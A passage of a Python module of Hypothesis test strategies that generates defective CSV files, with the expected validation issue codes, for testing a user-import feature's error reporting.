                IssueCode.DUPLICATE_COLUMNS,
                IssueCode.NO_ROWS,
                IssueCode.TOO_MANY_ROWS,
                IssueCode.MALFORMED_CSV,
            )
        )
    )
    columns = list(draw(st.permutations(COLUMNS)))
    if kind is IssueCode.MISSING_COLUMNS:
        # At least one required column is left, so the header is still recognised
        # as one whatever the delimiter.
        missing = draw(
            st.sets(st.sampled_from(REQUIRED_COLUMNS), min_size=1, max_size=2)
        )
        columns = [c for c in columns if c not in missing]
    headers = [draw(_header(column)) for column in columns]
    if kind is IssueCode.DUPLICATE_COLUMNS:
        twice = draw(st.sampled_from(COLUMNS))
        at = draw(st.integers(0, len(headers)))
        headers.insert(at, draw(_header(twice)))
        columns.insert(at, twice)
    unknown = draw(st.lists(st.sampled_from(_UNKNOWN_HEADERS), max_size=1))
    if kind is IssueCode.NO_ROWS:
        body = []
    elif kind is IssueCode.TOO_MANY_ROWS:
        # One more than the default max_rows; plain rows, as none is validated.
        body = [
            [f"user{n}@example.com" if c == "email" else f"{c} {n}" for c in columns]
            for n in range(201)
        ]
    else:
        body = draw(_simple_rows(columns, draw(st.integers(1, 3))))
    records = [[*headers, *unknown], *([*row, *("" for _ in unknown)] for row in body)]
    if kind is IssueCode.NO_ROWS:
        records.extend([] for _ in range(draw(st.integers(0, 2))))
    layout = draw(_layouts())
    text = _write(layout, records)
    if kind is IssueCode.MALFORMED_CSV:
        d = layout.delimiter
        text += draw(
            st.sampled_from(
                (
                    f'Ana{d}"García{d}ana@example.com{layout.line_end}',  # never closed
                    f'"Ana"x{d}García{d}ana@example.com{layout.line_end}',  # text after
                )
            )
        )
    expected = {kind}
    if unknown:
        expected.add(IssueCode.UNKNOWN_COLUMNS)
    encoding = draw(_file_encodings(text, layout.delimiter))
    return _encode(text, encoding), frozenset(expected)


def _fixed(data: bytes, code: IssueCode) -> tuple[bytes, frozenset[IssueCode]]:
    return data, frozenset({code})


_UNREADABLE_FILES: Final = st.one_of(
    st.sampled_from(_EMPTY_FILES).map(lambda data: _fixed(data, IssueCode.EMPTY_FILE)),
    st.builds(
        lambda head, tail: _fixed(head + tail, IssueCode.BINARY_FILE),
        st.sampled_from(_BINARY_HEADS),
        st.binary(max_size=64),
    ),
    st.sampled_from(_UNDECODABLE_FILES).map(
        lambda data: _fixed(data, IssueCode.UNDECODABLE)
    ),
)


def defective_csv_files() -> st.SearchStrategy[tuple[bytes, frozenset[IssueCode]]]:
    """Files with known defects, with the exact set of issue codes they produce.

    ``{issue.code for issue in preview.issues} == codes`` for ``preview =
    prepare(data, actor=SAMPLE_MANAGER, orgs=SAMPLE_ORGS, store=MemoryStore())``
    with the default options: errors and warnings, file-level and row-level.

    What is drawn:

    - unreadable files: empty ones (``empty_file``), binary files such as Excel
      workbooks, PDF or images (``binary_file``), broken UTF-8, UTF-16 or UTF-32
      (``undecodable``);
    - files with a wrong header or structure: required columns missing
      (``missing_columns``), a column twice (``duplicate_columns``), a header and no
      row (``no_rows``), 201 rows (``too_many_rows``), a quote never closed or text
      after a closing quote (``malformed_csv``);
    - readable files with one to five defective rows among valid ones, each row
      with one defect: ``missing_value``, ``value_too_long``,
      ``invalid_characters`` (formula injection payloads, zero-width and
      bidirectional characters, line breaks, tabs), ``invalid_email``,
      ``duplicate_email``, ``unknown_organization`` (also an organization that
      exists outside the manager's subtree), ``ambiguous_organization``,
      ``invalid_role``, ``role_not_allowed``, ``invalid_language``,
      ``wrong_field_count``, and the template's ``example_row``;
    - with the warnings ``unknown_columns`` (an extra column) and
      ``encoding_guessed`` (a cp1252 file with accented letters) added to some.

    ``file_too_large`` is not drawn: it takes a file over 2 MiB; test it with a
    small ``ImportOptions(max_bytes=...)``. The codes of the store (``email_exists``,
    ``email_taken``) and ``host_check`` need a store or host rules of your own.

    Example::

        @given(defective_csv_files())
        def test_import_endpoint_reports(file):
            data, codes = file
            response = client.post("/users/import", data=data)
            assert codes <= set(response.json()["codes"])
    """
    return st.one_of(_row_defect_files(), _header_defect_files(), _UNREADABLE_FILES)


def _hypothesis_setup_hook() -> None:
    """Register :func:`user_rows` and :func:`org_trees` for ``st.from_type``.

    Hypothesis calls this through the ``hypothesis`` entry point of the package,
    the way it loads third-party strategies; without it, ``st.from_type(UserRow)``
    would build users with ``st.builds``, which ignores validation.
    """
    st.register_type_strategy(UserRow, user_rows())
    st.register_type_strategy(OrgTree, org_trees())
